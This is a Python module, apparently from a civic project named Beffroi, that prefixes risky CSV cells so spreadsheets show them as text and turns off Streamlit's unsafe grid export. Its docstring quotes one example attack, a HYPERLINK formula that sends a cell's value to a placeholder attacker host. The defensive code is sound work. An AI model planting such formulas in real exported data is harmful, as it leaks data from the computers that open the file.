"""Every CSV Beffroi writes goes through here, so that no cell can run code.

A spreadsheet (Excel, LibreOffice) reads a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula, and tab or carriage return can hide such a start; a citizen who writes
``=HYPERLINK("http://evil.example/?d="&B2,"?")`` would otherwise get a formula run on a
staff computer. Following OWASP's CSV injection guidance, such a text cell is prefixed
with a single quote, which the spreadsheet shows as text. Numbers stay numbers (a negative
figure is not text). The full-width forms of those characters are treated alike.

Streamlit's own "Download as CSV" of a grid cannot be made safe (it writes cells as they
are), so the dashboard turns it off (:func:`disable_grid_export`) and offers Beffroi's
own download button built on :func:`frame_csv`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet will show it, never as a formula it would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, out, **kwargs) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(out, **kwargs) -> SafeWriter:
    return SafeWriter(out, **kwargs)


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    out = io.StringIO()
    writer = safe_writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def frame_csv(frame) -> bytes:
    """A pandas DataFrame (as a grid shows it) as CSV bytes a spreadsheet opens safely;
    UTF-8 with a byte-order mark so that Excel reads the accents."""
    rows = frame.itertuples(index=False, name=None)
    return ("\ufeff" + csv_text([str(c) for c in frame.columns], rows)).encode("utf-8")


def disable_grid_export() -> None:
    """Hide Streamlit's own CSV download and clipboard copy of every grid (they write
    cells unneutralised). ``client.disableDataExport`` is one of the options a script may
    set; ``beffroi dashboard`` should also set it on its command line."""
    import streamlit as st

    if not st.get_option("client.disableDataExport"):
        st.set_option("client.disableDataExport", True)
